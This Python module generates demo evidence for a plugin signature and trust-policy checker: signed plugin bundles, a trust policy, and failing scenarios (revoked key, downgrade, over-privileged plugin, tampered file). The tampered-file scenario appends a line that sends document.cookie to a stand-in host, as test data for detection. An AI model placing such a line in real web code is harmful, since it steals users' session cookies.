"""Demo plugin evidence: five signed plugins at the four trust levels and one bot (a Slack-style
manifest mapped onto our capabilities), their trust policy, and the scenarios: a tampered file, a
revoked key, an over-privileged community plugin, a downgrade.

Keys come from the seed (an Ed25519 private key is any 32 bytes; its signatures are deterministic)
and bundles are reproducible archives, so the same seed writes the same bytes.
"""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

from phase8_assets.evidence.plugins import (
    CAPABILITIES,
    MANIFEST,
    SIGNATURE,
    canonical_manifest,
    generate_key,
    key_id,
    manifest_for,
    parse_manifest,
    public_pem,
    sign_manifest,
    write_bundle,
)
from phase8_assets.shared.reports import write_bytes, write_text

# key name -> (publisher, trust level, not_before, not_after)
KEYS = {
    "chatterbox-2026": ("chatterbox", "core", "2026-01-01T00:00:00Z", "2027-12-31T00:00:00Z"),
    "octo-2026": ("octo-integrations", "verified", "2026-03-01T00:00:00Z", "2027-03-01T00:00:00Z"),
    "standuplabs-2026": ("standup-labs", "verified", "2026-02-01T00:00:00Z", "2027-02-01T00:00:00Z"),
    "acme-it-2026": ("acme-it", "private", "2026-01-15T00:00:00Z", "2027-01-15T00:00:00Z"),
    "giphy-community-2025": ("giphy-community", "community", "2025-06-01T00:00:00Z", "2027-06-01T00:00:00Z"),
    "matterpoll-2026": ("matterpoll", "community", "2026-04-01T00:00:00Z", "2027-04-01T00:00:00Z"),
}

# id -> (key, version, capabilities, egress, entry points, the platform manifest file it also ships); a
# Mattermost plugin's files are in its manifest's folder (its bundle_path webapp/main.js is mattermost/webapp/main.js)
PLUGINS = {
    "com.chatterbox.calls": ("chatterbox-2026", "2.3.0",
                             ["server:execute", "ui:extend", "read:channels", "post:messages", "act_as_bot"],
                             ["turn.chatterbox.example"], {"server": "server/plugin-linux-amd64", "webapp": "webapp/main.js"}, None),
    "com.octo.github": ("octo-2026", "0.9.1",
                        ["read:messages", "post:messages", "commands", "webhooks:inbound", "webhooks:outbound", "act_as_user"],
                        ["api.github.com", "github.com"], {"webapp": "mattermost/webapp/main.js"}, "mattermost/plugin.json"),
    "com.acme.jira-bridge": ("acme-it-2026", "1.4.2", ["post:messages", "commands", "webhooks:outbound"],
                             ["jira.acme.example"], {"bot": "bot/bridge.py"}, None),
    "org.giphy.giphy": ("giphy-community-2025", "2.1.0", ["post:messages", "commands", "ui:extend"], [],
                        {"webapp": "webapp/main.js"}, None),
    "org.matterpoll.polls": ("matterpoll-2026", "1.6.0", ["post:messages", "commands", "ui:extend", "act_as_bot"], [],
                             {"webapp": "webapp/main.js"}, None),
    "com.standuplabs.standup-bot": ("standuplabs-2026", "3.0.1", ["act_as_bot"], ["api.standuplabs.example"],
                                    {"bot": "bot/standup.js"}, "manifest.json"),
}  # fmt: skip

LEVELS = {
    "core": (sorted(CAPABILITIES), ["*"]),
    "verified": (["read:messages", "post:messages", "read:channels", "read:users", "commands", "ui:extend", "act_as_bot",
                  "act_as_user", "webhooks:inbound", "webhooks:outbound", "files:read"],
                 ["github.com", "api.github.com", "*.standuplabs.example"]),
    "private": (["read:messages", "post:messages", "read:channels", "commands", "ui:extend", "act_as_bot", "webhooks:inbound",
                 "webhooks:outbound"], ["*.acme.example"]),
    "community": (["post:messages", "commands", "ui:extend", "act_as_bot"], []),
}  # fmt: skip

TENANT_PLUGINS = {
    "acme": ["com.chatterbox.calls", "com.octo.github", "com.acme.jira-bridge", "org.giphy.giphy", "com.standuplabs.standup-bot"],
    "globex": ["com.chatterbox.calls", "com.octo.github", "org.matterpoll.polls"],
    "initech": ["com.chatterbox.calls", "org.matterpoll.polls", "org.giphy.giphy"],
}  # fmt: skip

# The bot's own Slack app manifest: its bot scopes map onto read:messages, post:messages, commands, read:users.
BOT_MANIFEST = {
    "_metadata": {"major_version": 1, "minor_version": 1},
    "display_information": {"name": "Standup Bot"},
    "features": {"bot_user": {"display_name": "standup", "always_online": True},
                 "slash_commands": [{"command": "/standup", "description": "Post your standup"}]},
    "oauth_config": {"scopes": {"bot": ["channels:history", "chat:write", "commands", "users:read"]}},
    "settings": {"socket_mode_enabled": True, "org_deploy_enabled": False},
}  # fmt: skip


def _key(seed: int, name: str):
    return generate_key(hashlib.sha256(f"phase8-demo-plugin-key:{seed}:{name}".encode()).digest())


def plugin_files(plugin_id: str, version: str | None = None, capabilities: list[str] | None = None,
                 egress: list[str] | None = None) -> dict[str, bytes]:  # fmt: skip
    """The unsigned files of a demo plugin (``version``, ``capabilities``, ``egress`` override the defaults)."""
    key, default_version, default_caps, default_egress, entry_points, platform = PLUGINS[plugin_id]
    version = version or default_version
    manifest = {"apiVersion": "phase8/v1", "kind": "PluginManifest", "id": plugin_id, "name": plugin_id.rsplit(".", 1)[-1],
                "version": version, "publisher": KEYS[key][0], "min_server_version": "10.0.0",
                "entry_points": entry_points, "capabilities": capabilities if capabilities is not None else default_caps,
                "egress": egress if egress is not None else default_egress}  # fmt: skip
    files = {"plugin.json": (json.dumps(manifest, indent=2) + "\n").encode()}
    if platform:
        manifest["platform_manifest"] = platform
        files["plugin.json"] = (json.dumps(manifest, indent=2) + "\n").encode()
        platform_doc = (
            BOT_MANIFEST
            if platform == "manifest.json"
            else {"id": plugin_id, "version": version, "webapp": {"bundle_path": "webapp/main.js"}}
        )
        files[platform] = (json.dumps(platform_doc, indent=2) + "\n").encode()
    for name, path in entry_points.items():
        files[path] = f"// {plugin_id} {version}: {name} entry point (demo)\n".encode()
    files["README.md"] = f"# {plugin_id}\n\nVersion {version}, published by {KEYS[key][0]}.\n".encode()
    return files


def signed(files: dict[str, bytes], seed: int, key_name: str) -> dict[str, bytes]:
    manifest = manifest_for(files)
    return {**files, MANIFEST: manifest, SIGNATURE: sign_manifest(_key(seed, key_name), manifest)}


def _bundle_name(plugin_id: str, version: str) -> str:
    return f"{plugin_id}-{version}.tar.gz"


def _digest(files: dict[str, bytes]) -> str:
    return hashlib.sha256(canonical_manifest(parse_manifest(files[MANIFEST]))).hexdigest()


def bundles(seed: int) -> dict[str, dict[str, bytes]]:
    """File name -> signed files of every demo plugin."""
    return {_bundle_name(pid, spec[1]): signed(plugin_files(pid), seed, spec[0]) for pid, spec in PLUGINS.items()}


def trust_policy(seed: int, signed_bundles: dict[str, dict[str, bytes]], revoked: dict[str, str] | None = None) -> str:
    """The policy; ``revoked``: key name -> reason."""
    lines = ["apiVersion: phase8/v1", "kind: PluginTrustPolicy",
             "description: Publisher keys, what each trust level may request, and which tenant runs which plugin.",
             'reviewed: "2026-11-02"', "keys:"]  # fmt: skip
    for name, (publisher, trust, not_before, not_after) in KEYS.items():
        public = _key(seed, name).public_key()
        lines += [f"  - key_id: {key_id(public)}  # {name}", f"    publisher: {publisher}", "    public_key: |"]
        lines += [f"      {line}" for line in public_pem(public).decode().splitlines()]
        lines += [f"    trust: {trust}", f'    not_before: "{not_before}"', f'    not_after: "{not_after}"']
        if revoked and name in revoked:
            lines.append(f"    revoked: {{reason: {json.dumps(revoked[name])}, ticket: SEC-1187}}")
    lines.append("levels:")
    for level, (capabilities, egress) in LEVELS.items():
        lines.append(f"  {level}:")
        lines.append(f"    capabilities: [{', '.join(capabilities)}]")
        lines.append(f"    egress: [{', '.join(json.dumps(h) for h in egress)}]")
    lines.append("tenants:")
    lines += [f"  {tenant}: [{', '.join(plugins)}]" for tenant, plugins in TENANT_PLUGINS.items()]
    lines.append("approved:")
    for pid, spec in PLUGINS.items():
        digest = _digest(signed_bundles[_bundle_name(pid, spec[1])])
        lines.append(f"  {pid}: {{version: {spec[1]}, manifest_sha256: {digest}}}")
    return "\n".join(lines) + "\n"


def evidence(out: Path, seed: int) -> list[Path]:
    signed_bundles = bundles(seed)
    files = [
        write_bytes(out / "evidence/plugins" / name, write_bundle(content)) for name, content in signed_bundles.items()
    ]
    files.append(write_text(out / "policy/plugin-trust.yaml", trust_policy(seed, signed_bundles)))
    return files


def scenarios(out: Path, seed: int) -> list[Path]:
    files = []
    header = "apiVersion: phase8/v1\nkind: EvidenceConfig\nextends: ../../phase8.yaml\n"
    extra = 'evidence:\n  plugin_bundles:\n    extra_paths: ["plugins/*.tar.gz"]\n'

    def scenario(name: str, description: str, config: str, bundle_files: dict[str, dict[str, bytes]]) -> None:
        base = out / "scenarios" / name
        files.append(write_text(base / "phase8.yaml", header + f"description: {description}\n" + config))
        for file_name, content in bundle_files.items():
            files.append(write_bytes(base / "plugins" / file_name, write_bundle(content)))

    polls = signed(plugin_files("org.matterpoll.polls"), seed, "matterpoll-2026")
    tampered = {
        **polls,
        "webapp/main.js": polls["webapp/main.js"] + b"fetch('https://collect.example/?c='+document.cookie)\n",
    }
    scenario("plugin-tampered-file", "the polls bundle's web app was changed after signing; plugin_signatures fails",
             extra, {"org.matterpoll.polls-1.6.0-mirror.tar.gz": tampered})  # fmt: skip

    revoked = trust_policy(seed, bundles(seed), {"giphy-community-2025": "private key leaked in a public CI log"})
    files.append(write_text(out / "scenarios/plugin-revoked-key/policy/plugin-trust.yaml", revoked))
    scenario("plugin-revoked-key", "the giphy publisher's key is revoked; plugin_signatures fails",
             'evidence:\n  plugin_trust:\n    paths: ["policy/plugin-trust.yaml"]\n', {})  # fmt: skip

    greedy = plugin_files("org.matterpoll.polls", "1.7.0", ["post:messages", "commands", "ui:extend", "act_as_bot",
                                                          "act_as_user", "read:users"], ["telemetry.matterpoll.example"])  # fmt: skip
    scenario("plugin-overprivileged", "a community plugin asks to act as users, read profiles and call home; "
             "plugin_capabilities fails", extra,
             {_bundle_name("org.matterpoll.polls", "1.7.0"): signed(greedy, seed, "matterpoll-2026")})  # fmt: skip

    older = signed(plugin_files("org.giphy.giphy", "2.0.0"), seed, "giphy-community-2025")
    scenario("plugin-downgrade", "giphy 2.0.0, below the approved 2.1.0; plugin_signatures fails", extra,
             {_bundle_name("org.giphy.giphy", "2.0.0"): older})  # fmt: skip
    return files
